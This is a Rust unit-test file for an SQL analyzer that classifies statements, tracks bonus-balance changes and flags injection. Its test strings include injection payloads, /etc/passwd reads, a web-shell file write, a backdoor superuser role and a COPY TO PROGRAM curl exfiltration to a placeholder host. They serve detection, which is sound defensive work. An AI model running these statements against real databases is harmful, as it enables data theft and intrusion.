//! Unit tests of statement analysis: positive cases and legitimate look-alikes.

use super::*;

fn pg(s: &str) -> (StmtClass, SqlFacts) {
    analyze(s, &[], Dialect::Postgres, &Vocab::default())
}

#[test]
fn upserts_of_a_balance_add_to_it_or_set_it() {
    let one = |sql: &str, d: Dialect| {
        let (_, f) = analyze(sql, &[], d, &Vocab::default());
        assert_eq!(f.bonus_changes.len(), 1, "{sql}");
        let c = &f.bonus_changes[0];
        assert_eq!(c.account_id, "100123", "{sql}");
        (c.delta, c.absolute, c.ledger)
    };
    let pg = Dialect::Postgres;
    let my = Dialect::MySql;
    let row = "INSERT INTO bonus_accounts (account_id, balance) VALUES (100123, 500)";
    assert_eq!(
        one(&format!("{row} ON CONFLICT (account_id) DO UPDATE SET balance = bonus_accounts.balance + EXCLUDED.balance"), pg),
        (500, false, false)
    );
    assert_eq!(
        one(&format!("{row} ON CONFLICT (account_id) DO UPDATE SET updated_at = now(), balance = EXCLUDED.balance"), pg),
        (500, true, false)
    );
    assert_eq!(
        one(
            &format!("{row} ON DUPLICATE KEY UPDATE balance = balance + VALUES(balance)"),
            my
        ),
        (500, false, false)
    );
    assert_eq!(
        one(
            &format!("{row} ON DUPLICATE KEY UPDATE balance = VALUES(balance)"),
            my
        ),
        (500, true, false)
    );
    assert_eq!(
        one(
            "REPLACE INTO bonus_accounts (account_id, balance) VALUES (100123, 500)",
            my
        ),
        (500, true, false)
    );
    // A new account's row, and a ledger's movement, are changes by their value.
    assert_eq!(one(row, pg), (500, false, true));
    assert_eq!(
        one("INSERT INTO bonus_ledger (account_id, amount) VALUES (100123, 500) ON CONFLICT DO NOTHING", pg),
        (500, false, true)
    );
}

#[test]
fn bonus_updates_and_ledger_inserts() {
    let (c, f) = pg("UPDATE bonus_accounts SET balance = balance + 5000, updated_at = now() WHERE account_id = 100123");
    assert_eq!(c, StmtClass::Write);
    assert_eq!(f.bonus_changes.len(), 1);
    assert_eq!(f.bonus_changes[0].delta, 5000);
    assert_eq!(f.bonus_changes[0].account_id, "100123");
    let (_, f) = pg("UPDATE bonus_accounts SET balance = balance - 300 WHERE account_id = 7");
    assert_eq!(f.bonus_changes[0].delta, -300);
    let (_, f) = pg("UPDATE loyalty_wallets SET points = 99999 WHERE customer_id = 7");
    assert!(f.bonus_changes[0].absolute);
    let (_, f) = pg(
        "INSERT INTO bonus_ledger (account_id, delta, reason) VALUES (11, 500, 'x'), (12, -500, 'y')",
    );
    assert_eq!(f.bonus_changes.len(), 2);
    assert_eq!(f.bonus_changes[1].delta, -500);
    assert!(f.bonus_changes[1].ledger);
    let (_, f) = analyze(
        "UPDATE bonus_accounts SET balance = balance + $1 WHERE account_id = $2",
        &["250".into(), "100001".into()],
        Dialect::Postgres,
        &Vocab::default(),
    );
    assert_eq!(f.bonus_changes[0].delta, 250);
    assert_eq!(f.bonus_changes[0].account_id, "100001");
    // Amounts as people type them at a prompt: a negative in parentheses, minus a
    // negative, a qualified column.
    for (sql, delta) in [
        (
            "UPDATE bonus_accounts SET balance = balance + (-300) WHERE account_id = 7",
            -300,
        ),
        (
            "UPDATE bonus_accounts SET balance = balance - -5000 WHERE account_id = 7",
            5000,
        ),
        (
            "UPDATE bonus_accounts b SET balance = b.balance + 900 WHERE b.account_id = 7",
            900,
        ),
        (
            "UPDATE bonus_accounts SET balance = (1200) WHERE account_id = 7",
            1200,
        ),
    ] {
        let (_, f) = pg(sql);
        assert_eq!(f.bonus_changes.len(), 1, "{sql}");
        assert_eq!(f.bonus_changes[0].delta, delta, "{sql}");
        assert_eq!(f.bonus_changes[0].account_id, "7", "{sql}");
    }
}

#[test]
fn writes_in_a_dialect_s_other_forms_change_what_the_standard_form_does() {
    let changes = |sql: &str, params: &[&str], d: Dialect| {
        let params: Vec<String> = params.iter().map(|p| p.to_string()).collect();
        let (_, f) = analyze(sql, &params, d, &Vocab::default());
        let c = f.bonus_changes.iter();
        let c = c.map(|c| (c.account_id.to_string(), c.delta, c.ledger));
        (c.collect::<Vec<_>>(), f.bonus_unnamed)
    };
    let my = Dialect::MySql;
    let pg = Dialect::Postgres;
    let ledger = vec![("7".to_string(), 500, true)];
    let balance = vec![("7".to_string(), 500, false)];
    // MySQL's INSERT … SET.
    for sql in [
        "INSERT INTO bonus_ledger SET account_id = 7, delta = 500, reason = 'manual'",
        "INSERT IGNORE INTO bonus_ledger SET bonus_ledger.account_id = 7, delta = 500",
    ] {
        assert_eq!(changes(sql, &[], my), (ledger.clone(), false), "{sql}");
    }
    assert_eq!(
        changes(
            "INSERT INTO bonus_ledger SET account_id = ?, delta = ?",
            &["7", "500"],
            my
        ),
        (ledger.clone(), false)
    );
    // PostgreSQL's tuple assignment, and a tuple from a subquery (no amount said).
    for sql in [
        "UPDATE bonus_accounts SET (balance, updated_at) = (balance + 500, now()) WHERE account_id = 7",
        "UPDATE bonus_accounts SET note = 'x', (updated_at, balance) = ROW(now(), balance + 500) WHERE account_id = 7",
    ] {
        assert_eq!(changes(sql, &[], pg), (balance.clone(), false), "{sql}");
    }
    let sub = "UPDATE bonus_accounts SET (balance, tier) = (SELECT balance * 2, tier FROM promo WHERE id = 1) WHERE account_id = 7";
    assert_eq!(changes(sub, &[], pg), (vec![], true));
    // Cut short where a log truncates them.
    for sql in [
        "UPDATE t SET",
        "UPDATE t SET (",
        "UPDATE t SET (a",
        "UPDATE t SET (a) =",
        "INSERT INTO t SET",
        "INSERT INTO t SET a =",
    ] {
        let _ = changes(sql, &[], my);
        let _ = changes(sql, &[], pg);
    }
    // `?` placeholders bind by place: the amount is the first, the account the second.
    assert_eq!(
        changes(
            "UPDATE bonus_accounts SET balance = balance + ? WHERE account_id = ?",
            &["500", "7"],
            my
        ),
        (balance.clone(), false)
    );
}

#[test]
fn balance_writes_whose_rows_or_amounts_the_text_does_not_say() {
    for sql in [
        "UPDATE bonus_accounts SET balance = balance + 500",
        "UPDATE bonus_accounts SET balance = balance + 500 WHERE tier = 'gold'",
        "UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id IN (SELECT id FROM customers WHERE city = 'Kyiv')",
        "UPDATE bonus_accounts SET balance = balance * 10 WHERE account_id = 7",
        "INSERT INTO bonus_transactions (account_id, amount, reason) SELECT id, 1000, 'promo' FROM customers",
        "INSERT INTO bonus_transactions SELECT id, 1000 FROM customers WHERE city = 'Kyiv'",
        // Keys joined to another table's rows name none of them.
        "UPDATE bonus_accounts b SET balance = b.balance + 500 FROM customers c WHERE b.account_id = c.id AND c.city = 'Kyiv'",
        "UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id = customers.id",
    ] {
        assert!(pg(sql).1.bonus_unnamed, "{sql}");
    }
    for sql in [
        "UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id = 7",
        "UPDATE bonus_accounts SET balance = balance + $1 WHERE account_id = $2",
        "UPDATE bonus_accounts SET balance = 0 WHERE account_id IN (7, 8)",
        "UPDATE bonus_accounts SET balance = balance + 5 WHERE account_id = ANY($1)",
        "UPDATE bonus_accounts SET balance = balance - 5 WHERE 7 = account_id",
        "UPDATE customers SET name = 'x'",
        "INSERT INTO bonus_ledger (account_id, delta) VALUES (7, 5)",
        "INSERT INTO bonus_ledger (account_id, delta) VALUES (7, (SELECT 5))",
        "INSERT INTO bonus_ledger_archive (account_id, note) SELECT account_id, note FROM old_notes",
    ] {
        assert!(!pg(sql).1.bonus_unnamed, "{sql}");
    }
}

#[test]
fn a_subquery_s_values_are_not_accounts() {
    let (_, f) = pg("UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id IN (SELECT id FROM customers WHERE city = 'Kyiv')");
    assert!(f.account_ids.is_empty(), "{:?}", f.account_ids);
    assert!(f.bonus_changes.is_empty());
    let (_, f) = pg("SELECT * FROM customers WHERE id IN (5, 6, -7)");
    assert_eq!(*f.account_ids, ["-7", "5", "6"]);
    let (_, f) = pg("SELECT * FROM customers WHERE id IN ('5'::bigint, '6'::bigint)");
    assert_eq!(*f.account_ids, ["5", "6"]);
}

#[test]
fn ordinary_order_changes_no_bonus() {
    let (_, f) = pg("INSERT INTO orders (account_id, amount, item) VALUES (5, 120, 'pizza')");
    assert!(f.bonus_changes.is_empty());
    assert_eq!(*f.account_ids, ["5"]);
}

#[test]
fn sqlcommenter_and_injection() {
    let (_, f) = pg("SELECT * FROM customers /*request_id='abc%2D1',application='loyalty-api'*/");
    assert_eq!(f.request_id.as_deref(), Some("abc-1"));
    assert_eq!(f.application.as_deref(), Some("loyalty-api"));
    // sqlcommenter's own tags: the trace stands for the request, a request id before it.
    let tp = "traceparent='00-5759e988bd862e3fe1be46a994272793-53995c3f42cd8ad8-01'";
    let (_, f) = pg(&format!("SELECT 1 /*controller='index',{tp}*/"));
    assert_eq!(
        f.request_id.as_deref(),
        Some("5759e988bd862e3fe1be46a994272793")
    );
    let (_, f) = pg(&format!("SELECT 1 /*{tp},request_id='r-9'*/"));
    assert_eq!(f.request_id.as_deref(), Some("r-9"));
    assert!(pg("SELECT 1 /*traceparent='00-zz-1-01'*/")
        .1
        .request_id
        .is_none());
    assert!(pg("SELECT * FROM customers WHERE email = '' OR 1=1 --'")
        .1
        .injection
        .is_some());
    assert!(pg("SELECT * FROM customers WHERE id = 5")
        .1
        .injection
        .is_none());
}

#[test]
fn statements_too_long_for_the_parser_are_read_by_their_tokens() {
    // A bulk ledger insert of 8,000 rows (~170 KB): past the parser's limit, its rows'
    // changes, accounts, table and class come from the tokens.
    let rows: Vec<String> = (0..8000)
        .map(|i| format!("({}, {}, 'goodwill')", 100_000 + i, i % 50 + 1))
        .collect();
    let bulk = format!(
        "INSERT INTO bonus_ledger (account_id, delta, reason) VALUES {}",
        rows.join(", ")
    );
    assert!(bulk.len() > 64 << 10);
    let (c, f) = pg(&bulk);
    assert_eq!(c, StmtClass::Write);
    assert!(f.fallback);
    assert_eq!(*f.tables, ["bonus_ledger"]);
    assert_eq!(f.bonus_changes.len(), 8000);
    assert_eq!(f.bonus_changes[7999].account_id, "107999");
    assert_eq!(f.bonus_changes[7999].delta, 50);
    assert_eq!(f.account_ids.len(), 8000);
    assert!(f.injection.is_none());
    // Statements stacked past the limit are still stacked; one long statement with a
    // closing `;` is not.
    let stacked = "SELECT id FROM menu WHERE id = 1; ".repeat(3000);
    assert_eq!(
        pg(&stacked).1.injection.as_deref(),
        Some("stacked statements")
    );
    assert!(pg(&format!("{bulk};")).1.injection.is_none());
}

#[test]
fn percent_before_a_multibyte_character_is_kept_as_written() {
    // `%` then a character of 2–4 bytes: the two bytes after it are no hex pair
    // (slicing the text there cut the character and panicked).
    assert_eq!(url_decode("a%é"), "a%é");
    assert_eq!(url_decode("%€1"), "%€1");
    assert_eq!(url_decode("x%E2%80%93y"), "x\u{2013}y");
    assert_eq!(url_decode("100%"), "100%");
    let (_, f) = pg("SELECT 1 /*request_id='r%2D%é1'*/");
    assert_eq!(f.request_id.as_deref(), Some("r-%é1"));
}

#[test]
fn comment_delimiters_that_overlap_or_never_close() {
    // `/*/` opens a comment whose `*` must not also close it (this sliced out of
    // bounds and panicked); tag comments go, other comments stay.
    for s in [
        "SELECT id FROM customers WHERE phone = $1 /*/ x */",
        "SELECT 1 /*/",
        "SELECT 1 /**/ /*/*/ /* a=1 */*/",
        "SELECT 1 /* request_id='r1' /* nested=2 */ */",
        "/*",
        "*/ /*",
    ] {
        let (_, f) = pg(s);
        assert!(f.injection.is_none(), "{s}");
    }
    assert_eq!(
        without_tag_comments("SELECT 1 /*/ x */ FROM t /*a=1*/ WHERE 2"),
        "SELECT 1 /*/ x */ FROM t  WHERE 2"
    );
    assert_eq!(
        pg("SELECT 1 /*request_id='r/*1'*/").1.request_id.as_deref(),
        Some("r/*1")
    );
}

#[test]
fn injection_markers_in_any_case() {
    let marker = |s: &str| pg(s).1.injection.map(|t| t.to_string());
    assert_eq!(
        marker("SELECT pg_sleep(5) FROM customers").as_deref(),
        Some("time-based probe")
    );
    assert_eq!(
        marker("SELECT a FROM t WHERE b = 1 union  all select 1 UnIoN SeLeCt 2").as_deref(),
        Some("UNION SELECT")
    );
    assert_eq!(
        marker("SELECT * FROM Information_Schema.tables").as_deref(),
        Some("catalog probing")
    );
    assert_eq!(marker("SELECT sleeper FROM unions WHERE id = 1"), None);
    assert_eq!(
        marker("SELECT 0x3c3f706870 INTO DumpFile '/var/www/x.php'").as_deref(),
        Some("file write")
    );
    // The list's order decides between markers, not where they stand in the text.
    assert_eq!(
        marker("SELECT load_file('/etc/passwd'), sleep(1) UNION SELECT 1").as_deref(),
        Some("UNION SELECT")
    );
    assert_eq!(
        marker("SELECT load_file('/etc/passwd'), sleep(1)").as_deref(),
        Some("time-based probe")
    );
    // Words a comment or a line break parts, which a search of the text misses.
    for (sql, m) in [
        (
            "SELECT a FROM t WHERE id = 5 UNION/**/SELECT email FROM customers",
            "UNION SELECT",
        ),
        (
            "SELECT a FROM t WHERE id = 5\nUNION ALL\n(SELECT email FROM customers)",
            "UNION SELECT",
        ),
        (
            "SELECT a FROM t WHERE id = 5 AND pg_sleep /**/ (5) IS NULL",
            "time-based probe",
        ),
        // PostgreSQL's server-side file and program access.
        (
            "COPY customers TO PROGRAM 'curl -T - https://x.example'",
            "program execution",
        ),
        (
            "COPY (SELECT email FROM customers) TO '/tmp/c.csv'",
            "server file write",
        ),
        ("COPY t FROM '/etc/passwd'", "server file read"),
        ("SELECT pg_read_file('/etc/passwd')", "server file read"),
        ("SELECT lo_export(16402, '/tmp/x')", "server file write"),
        (
            "SELECT * FROM dblink('host=203.0.113.9', 'SELECT 1') AS t(a int)",
            "outbound connection",
        ),
    ] {
        assert_eq!(marker(sql).as_deref(), Some(m), "{sql}");
    }
    // A client's COPY, and a column or table of such a name, are none.
    for sql in [
        "COPY customers TO STDOUT WITH CSV",
        "COPY (SELECT 1) TO STDOUT",
        "SELECT sleep FROM dblink_settings",
    ] {
        assert_eq!(marker(sql), None, "{sql}");
    }
}

#[test]
fn truncated_statement_falls_back() {
    let (c, f) = analyze(
        "SELECT id, name, email FROM customers WHERE note = 'abc",
        &[],
        Dialect::MySql,
        &Vocab::default(),
    );
    assert_eq!(c, StmtClass::Read);
    assert!(f.fallback);
    assert_eq!(*f.tables, ["customers"]);
}

#[test]
fn classes() {
    assert_eq!(
        pg("CREATE ROLE backdoor LOGIN SUPERUSER").0,
        StmtClass::Role
    );
    assert_eq!(pg("GRANT ALL ON customers TO x").0, StmtClass::Role);
    assert_eq!(
        pg("ALTER TABLE customers ADD COLUMN x int").0,
        StmtClass::Ddl
    );
    assert_eq!(pg("BEGIN").0, StmtClass::Other);
}

#[test]
fn campaign_row_values() {
    let (_, f) = pg("INSERT INTO push_campaigns (id, title, body, audience) VALUES ('cmp-1', 'Hi, there', 'It''s =1+1', 'all')");
    assert_eq!(f.row_value("id").unwrap(), "cmp-1");
    assert_eq!(f.row_value("title").unwrap(), "Hi, there");
    assert_eq!(f.row_value("body").unwrap(), "It's =1+1");
}

#[test]
fn device_registration_row_values() {
    // A device table's registration keeps its row (device and account), bound or inline;
    // an order's does not.
    let v = Vocab::default();
    let (_, f) = analyze(
        "INSERT INTO customer_devices (account_id, installation_id, platform) VALUES ($1, $2, $3)",
        &[
            "100638".into(),
            "0NYOwRG37g__U93FxYIpFy".into(),
            "android".into(),
        ],
        Dialect::Postgres,
        &v,
    );
    assert_eq!(
        f.row_value("installation_id").unwrap(),
        "0NYOwRG37g__U93FxYIpFy"
    );
    assert_eq!(f.account_ids.len(), 1);
    assert_eq!(f.account_ids[0], "100638");
    let (_, f) = analyze(
        "INSERT INTO `Push_Tokens` (user_id, fcm_token) VALUES (7, 'fXyz:APA91bH')",
        &[],
        Dialect::MySql,
        &v,
    );
    assert_eq!(f.row_value("fcm_token").unwrap(), "fXyz:APA91bH");
    let (_, f) = pg("INSERT INTO orders (account_id, amount) VALUES (100638, 129)");
    assert!(f.row.is_none());
}

#[test]
fn a_token_set_on_the_customer_s_row_is_kept() {
    // The app keeps the push token on the customer's own row and refreshes it: the
    // UPDATE's literal assignments are the row; expressions are not; an UPDATE that sets
    // no device column keeps none.
    let v = Vocab::default();
    let (_, f) = analyze(
        "UPDATE users SET fcm_token = $1, updated_at = now() WHERE id = $2",
        &["fXyz:APA91bHk3Jd0000".into(), "100638".into()],
        Dialect::Postgres,
        &v,
    );
    assert_eq!(f.row_value("fcm_token").unwrap(), "fXyz:APA91bHk3Jd0000");
    assert!(f.row_value("updated_at").is_none());
    assert_eq!(f.account_ids.len(), 1);
    assert_eq!(f.account_ids[0], "100638");
    let (_, f) = analyze(
        "UPDATE `customers` c SET c.`push_token` = 'ExponentPushToken[xk2]', c.visits = c.visits + 1 WHERE c.id = 7",
        &[],
        Dialect::MySql,
        &v,
    );
    assert_eq!(f.row_value("push_token").unwrap(), "ExponentPushToken[xk2]");
    assert!(f.row_value("visits").is_none());
    let (_, f) =
        pg("UPDATE bonus_accounts SET balance = balance + 500, note = 'gift' WHERE account_id = 7");
    assert!(f.row.is_none());
}

/// Analyzes in a new thread, whose shape cache is empty: a fresh parse.
fn fresh(s: &str, d: Dialect) -> (StmtClass, SqlFacts) {
    let s = s.to_string();
    std::thread::spawn(move || analyze(&s, &[], d, &Vocab::default()))
        .join()
        .expect("no panic")
}

/// Analyzes `s` after `warm`, which shares its skeleton: the cached shape with `s`'s
/// literals put in.
fn after(warm: &str, s: &str, d: Dialect) -> (StmtClass, SqlFacts) {
    after_in(warm, d, s, d)
}

/// Analyzes `s` in dialect `d` in a thread that first read `warm` in dialect `wd`.
fn after_in(warm: &str, wd: Dialect, s: &str, d: Dialect) -> (StmtClass, SqlFacts) {
    let (warm, s) = (warm.to_string(), s.to_string());
    std::thread::spawn(move || {
        analyze(&warm, &[], wd, &Vocab::default());
        analyze(&s, &[], d, &Vocab::default())
    })
    .join()
    .expect("no panic")
}

#[test]
fn statements_sharing_a_skeleton_read_as_if_parsed_alone() {
    let pairs = [
        (
            "SELECT id FROM customers WHERE phone = '+380671111111'",
            "SELECT id FROM customers WHERE phone = '+380672222222'",
        ),
        (
            "UPDATE bonus_accounts SET balance = balance + 50 WHERE account_id = 100001",
            "UPDATE bonus_accounts SET balance = balance + 99999 WHERE account_id = 100777",
        ),
        (
            "SELECT * FROM customers WHERE email = 'a' OR 'a'='b'",
            "SELECT * FROM customers WHERE email = 'a' OR 'x'='x'",
        ),
        (
            "SELECT * FROM customers WHERE name = 'bob'",
            "SELECT * FROM customers WHERE name = 'x UNION SELECT password FROM staff'",
        ),
        (
            "SELECT * FROM customers LIMIT 10",
            "SELECT * FROM customers LIMIT 100000",
        ),
        (
            "INSERT INTO bonus_ledger (account_id, delta) VALUES (11, 500), (12, -500)",
            "INSERT INTO bonus_ledger (account_id, delta) VALUES (13, 7), (14, -7.5)",
        ),
        (
            "SELECT id FROM customers WHERE id IN (1, 2) ; DROP TABLE x",
            "SELECT id FROM customers WHERE id IN (3, 4) ; DROP TABLE x",
        ),
        (
            "SELECT * FROM customers WHERE note = 'abc",
            "SELECT * FROM customers WHERE note = 'abd",
        ),
    ];
    for d in [Dialect::MySql, Dialect::Postgres] {
        for (warm, s) in pairs {
            assert_eq!(after(warm, s, d), fresh(s, d), "{s}");
        }
    }
}

#[test]
fn a_shape_read_in_one_dialect_never_answers_for_the_other() {
    // `--` opens a comment in PostgreSQL whatever follows; MySQL needs a space after it,
    // so there `--%'` is no comment and its quote opens a string that never closes.
    let s = "SELECT id, name FROM customers WHERE name LIKE '%' OR 1=1--%' \
             /*request_id='2e06ed48',application='loyalty-api'*/";
    let (pg, my) = (fresh(s, Dialect::Postgres), fresh(s, Dialect::MySql));
    assert!(!pg.1.fallback && my.1.fallback, "{pg:?} {my:?}");
    assert_eq!(after_in(s, Dialect::MySql, s, Dialect::Postgres), pg);
    assert_eq!(after_in(s, Dialect::Postgres, s, Dialect::MySql), my);
    // And for statements the skeleton reads: PostgreSQL's `"name"` is an identifier,
    // MySQL's a string.
    let s = "SELECT id FROM customers WHERE \"name\" = 'bob'";
    for (warm, d) in [
        (Dialect::MySql, Dialect::Postgres),
        (Dialect::Postgres, Dialect::MySql),
    ] {
        assert_eq!(after(s, s, d), fresh(s, d));
        assert_eq!(after_in(s, warm, s, d), fresh(s, d), "{warm:?} then {d:?}");
    }
}

proptest::proptest! {
    /// Statement text is attacker-controlled: comment delimiters, quotes and
    /// placeholders in any arrangement never panic the analysis.
    #[test]
    fn any_statement_text_is_analyzed_without_panic(
        s in "(SELECT|UPDATE|INSERT INTO|FROM|WHERE|SET|VALUES|id|=|\\*|/|'|\"|\\$1|\\?|,|\\(|\\)|;|-|%2D|%|é|€|request_id|CASE|WHEN|THEN|ELSE|END|ANY|ARRAY|\\[|\\]|ROW|OR|NOT|LIKE|>|\\|\\||\\+|TABLE|DECLARE|CURSOR|FOR|bonus_accounts|balance|account_id|'\\{1,2\\}'|unnest|\\(VALUES|AS|v\\.id|JOIN|ON|DELETE|TRUNCATE|CALL|=>|:=|p_points|FIND_IN_SET|string_to_array|CAST|::|MERGE|USING|IS|NULL|IN|BETWEEN|AND|0x7e|EXTRACTVALUE|ASCII|SUBSTR|CHR|guest_id|stars|[ a-z0-9]){0,40}",
    ) {
        let params = ["7".to_string()];
        for d in [Dialect::MySql, Dialect::Postgres] {
            let _ = analyze(&s, &params, d, &Vocab::default());
        }
    }

    #[test]
    fn cached_shapes_never_change_the_answer(
        a in "[0-9]{1,7}",
        b in "-?[0-9]{1,6}(\\.[0-9]{1,2})?",
        c in "[ -&(-~]{0,24}",
        tpl in 0usize..4,
    ) {
        let make = |a: &str, b: &str, c: &str| match tpl {
            0 => format!("UPDATE bonus_accounts SET balance = balance + {b} WHERE account_id = {a}"),
            1 => format!("SELECT * FROM customers WHERE email = '{c}' OR '{a}'='{c}'"),
            2 => format!("INSERT INTO bonus_ledger (account_id, delta, note) VALUES ({a}, {b}, '{c}')"),
            _ => format!("SELECT id FROM customers WHERE id = {a} AND note = '{c}' LIMIT {a}"),
        };
        let warm = make("1", "2", "w");
        let s = make(&a, &b, &c);
        for d in [Dialect::MySql, Dialect::Postgres] {
            proptest::prop_assert_eq!(after(&warm, &s, d), fresh(&s, d));
        }
    }
}

#[test]
fn a_staff_table_s_rows_name_no_customer() {
    let (_, f) = pg("SELECT id, email, password_hash FROM admin_users WHERE id = 5");
    assert!(f.account_ids.is_empty());
    let (_, f) = pg("SELECT id, email FROM users WHERE id = 5");
    assert_eq!(*f.account_ids, ["5"]);
    assert!(is_staff_table("backoffice.StaffAccounts"));
    assert!(!is_staff_table("backoffice.customers"));
}

#[test]
fn inline_string_values_are_read_outside_comments() {
    assert_eq!(
        string_literals(
            "SELECT id, password_hash FROM customers WHERE phone = '+380671234567' \
             /*request_id='4e2e2f1b',application='loyalty-api'*/"
        ),
        ["+380671234567"]
    );
    assert_eq!(
        string_literals("SELECT id FROM users WHERE email = 'o\\'brien@x.example' AND n = 5"),
        ["o'brien@x.example"]
    );
    assert!(string_literals("SELECT id FROM users WHERE id = $1").is_empty());
}

#[test]
fn the_command_word_is_read_past_leading_comments() {
    for (stmt, want) in [
        ("update bonus SET a = 1", Some("UPDATE")),
        (
            "/* update com.example.Bonus */ update bonus SET a = 1",
            Some("UPDATE"),
        ),
        ("/* a /* nested */ comment */SELECT 1", Some("SELECT")),
        (
            "-- name: GetCustomer :one\n\tSELECT * FROM c",
            Some("SELECT"),
        ),
        ("# mysql note\nDELETE FROM t", Some("DELETE")),
        ("((SELECT 1) UNION (SELECT 2))", Some("SELECT")),
        ("/* never closes SELECT", None),
        ("-- only a comment", None),
        ("   ", None),
        ("/*/ SELECT", None),
    ] {
        assert_eq!(super::command_word(stmt).as_deref(), want, "{stmt:?}");
    }
}

#[test]
fn a_script_of_one_class_is_read_statement_by_statement() {
    let (class, f) = pg("BEGIN; UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id = 1042; UPDATE bonus_accounts SET balance = balance - 500 WHERE account_id = 1043; COMMIT;");
    assert_eq!(class, StmtClass::Write);
    assert!(f.script);
    assert_eq!(
        f.bonus_changes
            .iter()
            .map(|c| (c.account_id.as_str(), c.delta))
            .collect::<Vec<_>>(),
        [("1042", 500), ("1043", -500)]
    );
    assert_eq!(&*f.account_ids, ["1042", "1043"]);
    let (class, f) = pg("SET search_path TO loyalty; SELECT email FROM customers WHERE id = 7; SELECT * FROM customers");
    assert_eq!(class, StmtClass::Read);
    assert!(f.script && f.whole_table_read);
    assert_eq!(&*f.account_ids, ["7"]);
    // A mix keeps the first statement's class and reading, as an injected tail does.
    let (class, f) = pg("SELECT name FROM menu WHERE n = 'x'; DROP TABLE customers; --'");
    assert_eq!(class, StmtClass::Read);
    assert!(!f.script);
    assert_eq!(f.injection.as_deref(), Some("stacked statements"));
    let (class, f) = pg("UPDATE bonus_accounts SET balance = 0 WHERE account_id = 5");
    assert_eq!(class, StmtClass::Write);
    assert!(!f.script);
    let (class, f) =
        pg("BEGIN; UPDATE bonus_accounts SET balance = 0 WHERE account_id = 5; COMMIT");
    assert_eq!(class, StmtClass::Write);
    assert!(f.script);
    assert_eq!(f.bonus_changes.len(), 1);
}

#[test]
fn writes_inside_a_with_or_a_merge_are_read_as_the_writes_they_are() {
    let (c, f) = pg("WITH t AS (UPDATE bonus_accounts SET balance = balance + 5000 WHERE account_id = 42 RETURNING *) SELECT * FROM t");
    assert_eq!(c, StmtClass::Write);
    assert_eq!(*f.tables, ["bonus_accounts"], "a CTE's name is no table");
    assert!(!f.whole_table_read, "the rows the update returns");
    assert_eq!(f.bonus_changes.len(), 1);
    assert_eq!(
        (&*f.bonus_changes[0].account_id, f.bonus_changes[0].delta),
        ("42", 5000)
    );
    let (c, f) = pg("WITH picked AS (SELECT id FROM customers WHERE city = 'Kyiv') UPDATE bonus_accounts SET balance = balance + 100 WHERE account_id IN (SELECT id FROM picked)");
    assert_eq!(c, StmtClass::Write);
    assert!(f.bonus_unnamed && f.bonus_changes.is_empty());
    assert_eq!(*f.tables, ["bonus_accounts", "customers"]);
    // Bound values numbered across the text reach the statement inside.
    let (_, f) = analyze(
        "WITH moved AS (UPDATE bonus_accounts SET balance = balance + $1 WHERE account_id = $2 RETURNING account_id) INSERT INTO bonus_log (account_id, note) SELECT account_id, $3 FROM moved",
        &["250".into(), "77".into(), "x".into()],
        Dialect::Postgres,
        &Vocab::default(),
    );
    assert_eq!(f.bonus_changes.len(), 1);
    assert_eq!(
        (&*f.bonus_changes[0].account_id, f.bonus_changes[0].delta),
        ("77", 250)
    );
    // A MERGE's UPDATE pinned by its join condition, and its INSERT of literal values.
    let (c, f) = pg("MERGE INTO bonus_accounts b USING (SELECT 1) s ON b.account_id = 42 WHEN MATCHED THEN UPDATE SET balance = b.balance + 500 WHEN NOT MATCHED THEN INSERT (account_id, balance) VALUES (42, 500)");
    assert_eq!(c, StmtClass::Write);
    assert!(!f.bonus_unnamed);
    let eff = effective_changes(&f.bonus_changes);
    assert_eq!(eff.len(), 1);
    assert_eq!(
        (&*eff[0].account_id, eff[0].delta, eff[0].ledger),
        ("42", 500, false)
    );
    // Rows or amounts the source picks: which accounts, or how much, the text cannot say.
    for sql in [
        "MERGE INTO bonus_accounts b USING customers c ON b.account_id = c.id WHEN MATCHED THEN UPDATE SET balance = b.balance + 1000",
        "MERGE INTO bonus_accounts b USING new_members m ON b.account_id = m.id WHEN NOT MATCHED THEN INSERT (account_id, balance) VALUES (m.id, 1000)",
        "MERGE INTO bonus_accounts b USING (SELECT 1) s ON b.account_id = 42 WHEN NOT MATCHED BY SOURCE THEN UPDATE SET balance = 0",
    ] {
        let (c, f) = pg(sql);
        assert_eq!(c, StmtClass::Write, "{sql}");
        assert!(f.bonus_unnamed, "{sql}");
    }
    // Reads stay reads; a MERGE of other tables moves no balance.
    assert_eq!(
        pg("WITH x AS (SELECT id FROM customers WHERE id = 5) SELECT * FROM x").0,
        StmtClass::Read
    );
    let (_, f) = pg("MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN UPDATE SET email = s.email");
    assert!(!f.bonus_unnamed && f.bonus_changes.is_empty());
    assert_eq!(
        tokens::class_of(&tokens::fallback_lex(
            "COPY customers TO STDOUT WITH CSV HEADER"
        )),
        StmtClass::Read
    );
}
